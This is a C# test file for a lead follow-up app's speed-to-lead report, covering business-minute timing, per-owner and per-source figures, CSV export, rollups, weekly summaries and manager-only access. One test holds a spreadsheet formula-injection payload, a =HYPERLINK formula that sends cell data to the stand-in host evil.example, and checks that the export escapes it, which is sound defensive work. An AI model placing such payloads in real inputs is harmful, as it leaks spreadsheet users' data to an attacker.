using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using FollowUp.Tests.Fixtures;
using FollowUp.Tests.Leads;
using FollowUp.ResponseWindows;

namespace FollowUp.Tests.Reports;

/// <summary>
/// The speed-to-lead report on a known set of inquiries (business hours 08:00-18:00 on weekdays, New
/// York): business minutes to first contact across a weekend, the share contacted within the promise,
/// lapses and attempts, per owner and per source; the CSV; and settled days read from their rollups.
/// </summary>
public sealed class SpeedToLeadTests(AzuriteFixture azurite)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task The_report_gives_each_owner_and_source_its_figures_in_business_minutes()
    {
        // The nightly roll-up is off: run as the clock jumps, it would keep a day's figures from before its last contact.
        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?>
        {
            ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *",
            ["FollowUp:Timers:RollUpReports"] = "0 0 0 1 1 *",
        });
        var a = await app.SubmitAsync(new { name = "Ana", email = "ana@example.com" }); // Mon 09:00
        await AttemptAsync(app, a, "2026-11-23T14:05:00Z"); // 5 business minutes: within the 15-minute promise
        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-23T14:10:00Z"));
        var b = await app.SubmitAsync(new { name = "Bo", email = "bo@example.com" });
        await AttemptAsync(app, b, "2026-11-23T14:40:00Z"); // 30 minutes: late
        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-24T14:00:00Z"));
        await app.SubmitAsync(new { name = "Di", email = "di@example.com" }); // Tue 09:00, never contacted
        foreach (var at in new[] { "2026-11-24T14:10:00Z", "2026-11-24T14:15:00Z" })
        {
            app.Time.SetUtcNow(DateTimeOffset.Parse(at));
            await app.Get<LadderScan>().ScanOnceAsync(Ct); // reminded, then the promise lapses
        }

        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-27T22:50:00Z"));
        var c = await app.SubmitAsync(new { name = "Cy", email = "cy@example.com", source = "Home Show" }); // Fri 17:50
        await AttemptAsync(app, c, "2026-11-30T13:20:00Z"); // Mon 08:20: 10 minutes on Friday and 20 on Monday

        var report = await ReportAsync(app, "from=2026-11-23&to=2026-11-27");

        var dana = report.GetProperty("owners").EnumerateArray().Single();
        Assert.Equal(
            ("dana", "Dana Reyes", 4, 3, 30.0, 30.0, 0.25, 1, 0, 0.75, 0),
            (dana.GetProperty("key").GetString(), dana.GetProperty("name").GetString(), dana.GetProperty("inquiries").GetInt32(), dana.GetProperty("contacted").GetInt32(),
             dana.GetProperty("medianMinutes").GetDouble(), dana.GetProperty("p90Minutes").GetDouble(), dana.GetProperty("contactedInWindow").GetDouble(),
             dana.GetProperty("lapsedPromises").GetInt32(), dana.GetProperty("escalations").GetInt32(), dana.GetProperty("attemptsPerInquiry").GetDouble(),
             dana.GetProperty("repliesUnanswered").GetInt32()));
        var sources = report.GetProperty("sources").EnumerateArray().ToDictionary(s => s.GetProperty("key").GetString()!);
        Assert.Equal((3, 2, 5.0, 30.0, 0.33), (sources["web form"].GetProperty("inquiries").GetInt32(), sources["web form"].GetProperty("contacted").GetInt32(),
            sources["web form"].GetProperty("medianMinutes").GetDouble(), sources["web form"].GetProperty("p90Minutes").GetDouble(), sources["web form"].GetProperty("contactedInWindow").GetDouble()));
        Assert.Equal((1, 30.0), (sources["Home Show"].GetProperty("inquiries").GetInt32(), sources["Home Show"].GetProperty("medianMinutes").GetDouble()));

        var csv = await ReportCsvAsync(app, "from=2026-11-23&to=2026-11-27");
        var lines = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("dimension,key,name,inquiries,contacted,median_minutes,p90_minutes,contacted_in_window,lapsed_promises,escalations,no_news_sent,attempts_per_inquiry,replies_unanswered,"
            + "status_links_sent,opened_link,moved_time,withdrew,added_detail,"
            + "calls_answered,calls_missed,texted_back,median_text_back_seconds,voicemails,callbacks,callbacks_reached,first_contacts_by_call", lines[0]);
        Assert.Contains("owner,dana,Dana Reyes,4,3,30,30,0.25,1,0,0,0.75,0,4,0,0,0,0,0,0,0,,0,0,0,0", lines); // four links sent, none used; no calls
        Assert.Contains("source,Home Show,Home Show,1,1,30,30,0,0,0,0,1,0,1,0,0,0,0,0,0,0,,0,0,0,0", lines);
    }

    [Fact]
    public async Task What_prospects_did_with_their_status_links_is_a_share_per_owner_and_a_moved_time_is_the_promise_kept()
    {
        await using var app = StatusPages.App(azurite, new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *", ["FollowUp:Timers:RollUpReports"] = "0 0 0 1 1 *" });
        var ana = await app.SubmitAsync(new { name = "Ana", email = "ana@example.com" });
        var bo = await app.SubmitAsync(new { name = "Bo", email = "bo@example.com" });
        var cy = await app.SubmitAsync(new { name = "Cy", email = "cy@example.com" });
        await app.SubmitAsync(new { name = "Di", email = "di@example.com" });
        var (anaLink, boLink) = (await StatusPages.LinkPathAsync(app, ana), await StatusPages.LinkPathAsync(app, bo));
        await app.Client().GetStringAsync(anaLink, Ct);
        await app.Client().GetStringAsync(boLink, Ct);
        Assert.Equal(HttpStatusCode.SeeOther, (await StatusPages.PostAsync(app, anaLink + "/better-time", new Dictionary<string, string> { ["slot"] = "2026-11-24T15:00Z" })).StatusCode);
        Assert.Equal(HttpStatusCode.SeeOther, (await StatusPages.PostAsync(app, boLink + "/sorted")).StatusCode);
        Assert.Equal(HttpStatusCode.SeeOther, (await StatusPages.PostAsync(app, await StatusPages.LinkPathAsync(app, cy) + "/detail", new Dictionary<string, string> { ["detail"] = "Upstairs" })).StatusCode);
        await AttemptAsync(app, ana, "2026-11-24T14:55:00Z"); // a day after the first promise, before the time Ana picked

        var report = await ReportAsync(app, "from=2026-11-23&to=2026-11-23");

        var dana = report.GetProperty("owners").EnumerateArray().Single();
        var links = dana.GetProperty("statusLink");
        Assert.Equal((4, 0.5, 0.25, 0.25, 0.25), (links.GetProperty("sent").GetInt32(), links.GetProperty("opened").GetDouble(), links.GetProperty("movedTime").GetDouble(),
            links.GetProperty("withdrew").GetDouble(), links.GetProperty("addedDetail").GetDouble()));
        Assert.Equal(0.25, dana.GetProperty("contactedInWindow").GetDouble());
        Assert.Equal(links.GetRawText(), report.GetProperty("sources").EnumerateArray().Single().GetProperty("statusLink").GetRawText());
    }

    [Fact]
    public async Task Settled_days_are_read_from_their_rollups_so_the_cost_does_not_follow_the_inquiries()
    {
        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *" });
        for (var i = 0; i < 5; i++)
        {
            await app.SubmitAsync(new { name = $"Lead {i}", email = $"lead{i}@example.com" });
        }

        var fresh = await ReportAsync(app, "from=2026-11-23&to=2026-11-23");
        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-12-20T14:00:00Z")); // the 23rd has settled
        var workedOut = await ReportAsync(app, "from=2026-11-23&to=2026-11-23");
        var fromRollup = await ReportAsync(app, "from=2026-11-23&to=2026-11-23");

        Assert.Equal(7, fresh.GetProperty("storageReads").GetInt32()); // the rollups, the day's inquiries, one per inquiry
        Assert.Equal(7, workedOut.GetProperty("storageReads").GetInt32());
        Assert.Equal(1, fromRollup.GetProperty("storageReads").GetInt32());
        Assert.Equal(
            workedOut.GetProperty("owners").GetRawText(), fromRollup.GetProperty("owners").GetRawText());
        Assert.Equal(5, fromRollup.GetProperty("owners")[0].GetProperty("inquiries").GetInt32());
    }

    [Fact]
    public async Task An_ended_day_is_read_from_its_rollup_and_the_nightly_roll_up_brings_in_what_happened_since()
    {
        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?>
        {
            ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *",
            ["FollowUp:Timers:RollUpReports"] = "0 0 0 1 1 *", // run by hand below
        });
        var id = await app.SubmitAsync(new { name = "Ana", email = "ana@example.com" }); // Mon 23rd
        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-24T13:00:00Z")); // Tue, before anyone called

        var first = await ReportAsync(app, "from=2026-11-23&to=2026-11-23"); // worked out, and kept
        await AttemptAsync(app, id, "2026-11-24T13:10:00Z"); // contacted the next morning
        var stale = await ReportAsync(app, "from=2026-11-23&to=2026-11-23");
        await app.Get<FollowUp.Reports.SpeedToLead>().RollUpAsync(Ct);
        var refreshed = await ReportAsync(app, "from=2026-11-23&to=2026-11-23");

        Assert.Equal((3, 0), (first.GetProperty("storageReads").GetInt32(), first.GetProperty("total").GetProperty("contacted").GetInt32()));
        Assert.Equal((1, 0), (stale.GetProperty("storageReads").GetInt32(), stale.GetProperty("total").GetProperty("contacted").GetInt32()));
        Assert.Equal((1, 1), (refreshed.GetProperty("storageReads").GetInt32(), refreshed.GetProperty("total").GetProperty("contacted").GetInt32()));
        Assert.Equal(550.0, refreshed.GetProperty("total").GetProperty("medianMinutes").GetDouble()); // Mon 09:00-18:00 (540) and Tue 08:00-08:10 (10)
    }

    [Fact]
    public async Task On_monday_morning_each_manager_gets_last_weeks_report_once_by_text_and_email()
    {
        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?>
        {
            ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *",
            ["FollowUp:Timers:WeeklySummary"] = "0 0 0 1 1 *", // run by hand below
        });
        var summary = app.Get<FollowUp.Reports.WeeklySummary>();
        Assert.False(await summary.SendIfDueAsync(Ct)); // Monday 09:00, but the week before had no inquiries
        var a = await app.SubmitAsync(new { name = "Ana", email = "ana@example.com" });
        await AttemptAsync(app, a, "2026-11-23T14:06:00Z");

        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-30T12:30:00Z")); // Monday 07:30 in New York: not yet
        Assert.False(await summary.SendIfDueAsync(Ct));
        app.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-30T13:05:00Z")); // 08:05
        Assert.True(await summary.SendIfDueAsync(Ct));
        Assert.False(await summary.SendIfDueAsync(Ct)); // once a week

        var sent = app.Sent.All().Where(m => m.Kind == "weekly-summary").ToList();
        Assert.Equal(2, sent.Count); // Sam manages Dana: one text, one email
        Assert.Equal(
            "FollowUp, week of Nov 23: 1 inquiries, 1 contacted, median 6 min to first contact, 100% within the promise, 0 lapsed. Full report by email.",
            sent.Single(m => m.Channel == "sms" && m.To == "+12125550102").Text);
        var email = sent.Single(m => m.Channel == "email" && m.To == "sam@brightside.example");
        Assert.Equal("Bright Side Plumbing: speed to lead, week of Nov 23", email.Subject);
        Assert.Contains("- Dana Reyes: 1 inquiries, 1 contacted, median 6 min, 90% within 6 min, 100% within the promise", email.Text);
        Assert.Contains("Per source", email.Text);
    }

    [Fact]
    public async Task Changing_hours_and_windows_later_does_not_rewrite_past_figures()
    {
        var settings = new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *" };
        string prefix;
        await using (var before = new FollowUpApp(azurite, settings))
        {
            prefix = before.Prefix;
            var id = await before.SubmitAsync(new { name = "Ana", email = "ana@example.com" }); // Mon 09:00, promised by 09:15
            await AttemptAsync(before, id, "2026-11-23T14:20:00Z"); // 20 minutes: the promise was not kept
        }

        // Later the business opens at 09:10 and promises an hour: worked out again, the same contact would read 10 minutes, in time.
        settings["FollowUp:Windows:WebForm"] = "01:00:00";
        settings["FollowUp:Windows:Hours:Monday"] = "09:10-18:00";
        await using var after = new FollowUpApp(azurite, settings, prefix);
        after.Time.SetUtcNow(DateTimeOffset.Parse("2026-11-23T15:00:00Z"));

        var total = (await ReportAsync(after, "from=2026-11-23&to=2026-11-23")).GetProperty("total");

        Assert.Equal((20.0, 0.0), (total.GetProperty("medianMinutes").GetDouble(), total.GetProperty("contactedInWindow").GetDouble()));
    }

    [Fact]
    public async Task A_source_that_looks_like_a_formula_is_text_in_the_csv()
    {
        await using var app = new FollowUpApp(azurite, new Dictionary<string, string?> { ["FollowUp:Timers:ScanDueWindows"] = "0 0 0 1 1 *" });
        await app.SubmitAsync(new { name = "Eve", email = "eve@example.com", source = "=HYPERLINK(\"https://evil.example/?d=\"&C3,\"Open\")" });

        var csv = await ReportCsvAsync(app, "from=2026-11-23&to=2026-11-23");

        Assert.Contains("source,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&C3,\"\"Open\"\")\",\"'=HYPERLINK(", csv);
        Assert.DoesNotContain(",\"=HYPERLINK", csv);
    }

    [Fact]
    public async Task Only_managers_see_the_report_and_bad_dates_are_named()
    {
        await using var app = new FollowUpApp(azurite);

        var notManager = await GetAsync(app, "/api/staff/report", LeadImportTests.DanaKey);
        var badDate = await GetAsync(app, "/api/staff/report?from=23/11/2026", LeadImportTests.SamKey);
        var backwards = await GetAsync(app, "/api/staff/report?from=2026-11-23&to=2026-11-01", LeadImportTests.SamKey);

        Assert.Equal(HttpStatusCode.Forbidden, notManager.StatusCode);
        Assert.Equal(HttpStatusCode.UnprocessableEntity, badDate.StatusCode);
        Assert.True((await badDate.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("errors").TryGetProperty("from", out _));
        Assert.Equal(HttpStatusCode.UnprocessableEntity, backwards.StatusCode);
    }

    private static async Task AttemptAsync(FollowUpApp app, string id, string at)
    {
        app.Time.SetUtcNow(DateTimeOffset.Parse(at));
        var request = new HttpRequestMessage(HttpMethod.Post, $"/api/staff/inquiries/{id}/attempts") { Content = JsonContent.Create(new { channel = "phone", outcome = "voicemail" }) };
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", LeadImportTests.DanaKey);
        Assert.Equal(HttpStatusCode.OK, (await app.Client().SendAsync(request, Ct)).StatusCode);
    }

    private static async Task<JsonElement> ReportAsync(FollowUpApp app, string query)
    {
        var response = await GetAsync(app, "/api/staff/report?" + query, LeadImportTests.SamKey);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return await response.Content.ReadFromJsonAsync<JsonElement>(Ct);
    }

    private static async Task<string> ReportCsvAsync(FollowUpApp app, string query)
    {
        var response = await GetAsync(app, "/api/staff/report?format=csv&" + query, LeadImportTests.SamKey);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        return await response.Content.ReadAsStringAsync(Ct);
    }

    private static async Task<HttpResponseMessage> GetAsync(FollowUpApp app, string path, string key)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, path);
        request.Headers.Authorization = new AuthenticationHeaderValue("Bearer", key);
        return await app.Client().SendAsync(request, Ct);
    }
}
